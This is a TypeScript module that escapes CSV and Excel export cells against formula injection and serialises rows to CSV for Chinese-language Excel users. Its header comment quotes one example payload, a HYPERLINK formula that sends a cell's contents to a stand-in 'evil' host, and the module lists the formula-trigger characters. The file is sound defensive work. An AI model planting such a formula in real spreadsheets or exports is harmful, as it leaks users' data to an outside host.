/**
 * Safe values for CSV and Excel exports (SECURITY.md: "exports: cells starting with = + - @ TAB
 * or NUL are escaped"). A cell such as `=HYPERLINK("http://evil/?"&A1)` typed into a form would
 * otherwise run as a formula on the machine of whoever opens the export (OWASP "CSV Injection").
 */

/**
 * First characters that make a spreadsheet treat a cell as a formula or strip into one: the OWASP
 * list (`=`, `+`, `-`, `@`, tab, carriage return), NUL, and the full-width forms `＝＋－＠` that a
 * Chinese input method produces, in case a spreadsheet application normalises them.
 */
const DANGEROUS_FIRST = new Set(['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠']);

/**
 * Makes one exported value safe: strings whose first character is dangerous get a leading `'`,
 * which spreadsheets read as "this is text". Finite numbers and bigints pass through unchanged, so
 * `-5` stays a number while the string `"-5"` becomes `'-5`. `null`/`undefined` become `''`,
 * `Date` its ISO string, booleans `TRUE`/`FALSE`; anything else is converted with `String` and then
 * escaped, so no path into the sheet skips the check.
 *
 * @example escapeCell('=1+1') // "'=1+1"
 * @example escapeCell(-3.5)   // -3.5
 */
export function escapeCell(value: unknown): string | number {
  if (typeof value === 'number' && Number.isFinite(value)) return value;
  if (typeof value === 'bigint') return value.toString();
  if (value === null || value === undefined) return '';
  if (typeof value === 'boolean') return value ? 'TRUE' : 'FALSE';
  const text = value instanceof Date ? value.toISOString() : String(value);
  return DANGEROUS_FIRST.has(text.charAt(0)) ? `'${text}` : text;
}

/** RFC 4180: a field containing a quote, comma, CR or LF is wrapped in quotes with quotes doubled. */
function quoteField(field: string): string {
  return /[",\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field;
}

/**
 * Serialises rows to CSV for download: every cell through `escapeCell`, RFC 4180 quoting, CRLF
 * line ends, and a UTF-8 byte order mark so Excel on Chinese Windows reads 中文 as UTF-8 instead of
 * GBK. Serve it as `text/csv; charset=utf-8` with `Content-Disposition: attachment`.
 *
 * @example toCsv([['姓名', '备注'], ['张三', '=cmd']]) // '\uFEFF姓名,备注\r\n张三,\'=cmd\r\n'
 */
export function toCsv(rows: unknown[][]): string {
  const lines = rows.map((row) => row.map((cell) => quoteField(String(escapeCell(cell)))).join(','));
  return `\uFEFF${lines.map((line) => `${line}\r\n`).join('')}`;
}
